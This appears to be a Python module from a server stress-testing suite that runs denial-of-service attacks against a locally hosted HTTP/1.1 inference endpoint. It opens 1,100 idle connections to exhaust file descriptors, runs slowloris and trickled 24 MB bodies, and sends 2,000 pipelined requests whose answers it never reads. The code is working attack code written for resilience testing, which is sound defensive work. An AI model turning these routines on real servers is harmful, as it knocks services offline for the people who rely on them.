"""Attacks through the HTTP/1.1 door (issue 12, findings 7 and 8): many idle connections,
slowloris, slow bodies, and a client that never reads. Plain sockets, nonblocking, so one
thread holds them all; a connection the server closes is counted, never an error."""

from __future__ import annotations

import socket
import time
from collections.abc import Iterable

from bench.attacks.harness import Attack, Siege
from bench.bodies import SDXL, SDXL_ID, encode, text_to_image

INVOKE_PATH = f"/model/{SDXL_ID}/invoke"
CONNECT_TIMEOUT = 2.0
TICK = 0.1


def request_head(length: int | None = None, path: str = INVOKE_PATH,
                 host: str = "127.0.0.1") -> bytes:
    lines = [f"POST {path} HTTP/1.1", f"Host: {host}", "Content-Type: application/json"]
    if length is not None:
        lines.append(f"Content-Length: {length}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode()


def _open(siege: Siege, count: int, first: bytes = b"") -> tuple[list[socket.socket], int]:
    """Up to ``count`` connections (each sent ``first``), nonblocking; and how many the
    server (or the kernel's backlog) did not take."""
    held, failed = [], 0
    for _ in range(count):
        if not siege.running():
            break
        try:
            sock = socket.create_connection(siege.address, timeout=CONNECT_TIMEOUT)
            if first:
                sock.sendall(first)
        except OSError:
            failed += 1
            continue
        sock.setblocking(False)
        held.append(sock)
    return held, failed


def _closed_by_server(sock: socket.socket) -> bool:
    """Whether the server has closed (or reset) this connection; reads and drops any
    answer it sent first."""
    try:
        while data := sock.recv(65536):
            del data
        return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def _still_open(held: Iterable[socket.socket]) -> list[socket.socket]:
    alive = []
    for sock in held:
        if _closed_by_server(sock):
            sock.close()
        else:
            alive.append(sock)
    return alive


def _close_all(held: Iterable[socket.socket]) -> None:
    for sock in held:
        sock.close()


def idle_connections(siege: Siege, count: int = 1100) -> None:
    """``count`` connections that send nothing, held until the time is up (past the 1,024
    descriptors the server has; see target.USUAL_NOFILE). A server out of descriptors
    leaves new ones in its listen backlog, so opening them all can take seconds."""
    started = time.monotonic()
    held, failed = _open(siege, count)
    try:
        siege.note("seconds to open them", round(time.monotonic() - started, 1))
        siege.note("connections opened", len(held))
        siege.note("connections not taken", failed)
        siege.hold()
        held = _still_open(held)
        siege.note("still open at the end", len(held))
    finally:
        _close_all(held)


def slowloris(siege: Siege, count: int = 300) -> None:
    """``count`` connections sending a request head at 1 byte a second, never ending it."""
    held, failed = _open(siege, count, request_head()[:40])
    cut = 0
    try:
        siege.note("connections not taken", failed)
        while siege.hold(1.0):
            alive = _still_open(held)
            cut += len(held) - len(alive)
            held = []
            for sock in alive:
                try:
                    sock.send(b"a")
                    held.append(sock)
                except BlockingIOError:
                    held.append(sock)
                except OSError:
                    cut += 1
                    sock.close()
        siege.note("still held at the end", len(held))
        siege.note("closed by the server", cut)
    finally:
        _close_all(held)


def slow_bodies(siege: Siege, count: int = 30, length: int = 24_000_000,
                rate: int = 1_500_000) -> None:
    """``count`` connections announcing ``length``-byte bodies, each trickled at ``rate``
    bytes a second (all of them arrive near the end of the attack's 16 s). The body is not
    JSON: the service refuses it once it has it all."""
    held, failed = _open(siege, count, request_head(length))
    piece = b"a" * int(rate * TICK)
    sent = {sock.fileno(): 0 for sock in held}
    cut = 0
    try:
        siege.note("connections not taken", failed)
        while siege.hold(TICK) and held:
            alive = []
            for sock in held:
                left = length - sent[sock.fileno()]
                try:
                    if left > 0:
                        sent[sock.fileno()] += sock.send(piece[:left])
                    alive.append(sock)
                except BlockingIOError:
                    alive.append(sock)  # the server is not reading it
                except OSError:
                    cut += 1
                    sock.close()
            held = _still_open(alive)
            cut += len(alive) - len(held)
        siege.note("MiB sent", round(sum(sent.values()) / 2**20))
        siege.note("still held at the end", len(held))
        siege.note("closed by the server", cut)
    finally:
        _close_all(held)


def never_reads(siege: Siege, count: int = 2000) -> None:
    """``count`` pipelined invoke requests on one connection with a tiny receive buffer,
    and not one answer read."""
    body = encode(text_to_image(SDXL, seed=2, prompt="never read"))
    pending = (request_head(len(body)) + body) * count
    sock = socket.create_connection(siege.address, timeout=CONNECT_TIMEOUT)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    sock.setblocking(False)
    sent = 0
    try:
        while siege.hold(TICK):
            if sent < len(pending):
                try:
                    sent += sock.send(pending[sent:sent + 65536])
                except BlockingIOError:
                    pass
                except OSError:
                    siege.note("closed by the server", True)
                    break
        siege.note("requests sent", sent * count // len(pending))
    finally:
        sock.close()


ATTACKS = (
    Attack("h1-idle-connections", "HTTP/1.1", "1,100 idle connections (server at 1,024 "
           "descriptors)", idle_connections, seconds=14),
    Attack("h1-slowloris", "HTTP/1.1", "300 connections sending a request head at 1 byte/s",
           slowloris, seconds=13),
    Attack("h1-slow-bodies", "HTTP/1.1", "30 bodies of 24 MB, each trickled at 1.5 MB/s",
           slow_bodies, seconds=17),
    Attack("h1-never-reads", "HTTP/1.1", "2,000 pipelined requests on one connection, "
           "answers never read", never_reads, seconds=10),
)
